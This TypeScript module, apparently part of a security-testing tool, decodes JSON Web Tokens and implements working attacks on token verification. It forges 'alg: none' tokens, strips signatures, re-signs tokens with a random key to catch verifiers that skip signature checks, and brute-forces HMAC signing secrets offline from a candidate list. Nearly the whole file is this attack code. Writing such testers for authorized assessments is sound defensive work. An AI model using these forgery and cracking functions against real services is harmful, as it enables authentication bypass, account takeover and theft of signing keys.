import { createHmac, randomBytes, timingSafeEqual } from 'node:crypto';
import { table } from '../../core/table.ts';

export interface DecodedJwt {
  header: Record<string, unknown>;
  payload: Record<string, unknown>;
  signingInput: string;
  signature: string;
}

const JWT_SHAPE = /^[A-Za-z0-9_-]{2,}\.[A-Za-z0-9_-]{2,}\.[A-Za-z0-9_-]*$/;

export function looksLikeJwt(value: unknown): value is string {
  return typeof value === 'string' && JWT_SHAPE.test(value) && decodeJwt(value) !== null;
}

export function decodeJwt(token: string): DecodedJwt | null {
  const [h, p, s] = token.split('.');
  if (h === undefined || p === undefined || s === undefined) return null;
  try {
    const header = JSON.parse(Buffer.from(h, 'base64url').toString('utf8')) as unknown;
    const payload = JSON.parse(Buffer.from(p, 'base64url').toString('utf8')) as unknown;
    if (typeof header !== 'object' || header === null || typeof payload !== 'object' || payload === null) return null;
    return {
      header: header as Record<string, unknown>,
      payload: payload as Record<string, unknown>,
      signingInput: `${h}.${p}`,
      signature: s,
    };
  } catch {
    return null;
  }
}

const b64 = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');
const HASH = table<string>({ HS256: 'sha256', HS384: 'sha384', HS512: 'sha512' });

export function isHmac(jwt: DecodedJwt): boolean {
  return typeof jwt.header.alg === 'string' && jwt.header.alg in HASH;
}

/** `alg: none`, no signature: accepted only by a verifier that trusts the header. */
export function forgeAlgNone(jwt: DecodedJwt): string {
  return `${b64({ ...jwt.header, alg: 'none' })}.${b64(jwt.payload)}.`;
}

/** The original header and claims with the signature removed. */
export function stripSignature(jwt: DecodedJwt): string {
  return `${jwt.signingInput}.`;
}

/** HMAC-signs header + payload with `secret` (the header's HS alg, HS256 otherwise). */
export function signHmac(
  header: Record<string, unknown>,
  payload: Record<string, unknown>,
  secret: string | Buffer,
): string {
  const alg = typeof header.alg === 'string' && header.alg in HASH ? header.alg : 'HS256';
  const input = `${b64({ ...header, alg })}.${b64(payload)}`;
  const sig = createHmac(HASH[alg] ?? 'sha256', secret)
    .update(input)
    .digest('base64url');
  return `${input}.${sig}`;
}

/** Re-signed with a random key nobody knows: accepted only when the signature is not checked. */
export function resignWithRandomKey(jwt: DecodedJwt): string {
  return signHmac({ ...jwt.header, alg: isHmac(jwt) ? jwt.header.alg : 'HS256' }, jwt.payload, randomBytes(32));
}

/** Tries each candidate secret offline; returns the one that reproduces the signature. */
export function crackHmac(jwt: DecodedJwt, candidates: Iterable<string>): string | null {
  if (!isHmac(jwt)) return null;
  const hash = HASH[String(jwt.header.alg)] ?? 'sha256';
  const want = Buffer.from(jwt.signature, 'base64url');
  for (const secret of candidates) {
    const got = createHmac(hash, secret).update(jwt.signingInput).digest();
    if (got.length === want.length && timingSafeEqual(got, want)) return secret;
  }
  return null;
}

/** Seconds until expiry, or null when the token carries no `exp`. */
export function secondsToExpiry(jwt: DecodedJwt, now = Date.now()): number | null {
  return typeof jwt.payload.exp === 'number' ? jwt.payload.exp - now / 1000 : null;
}
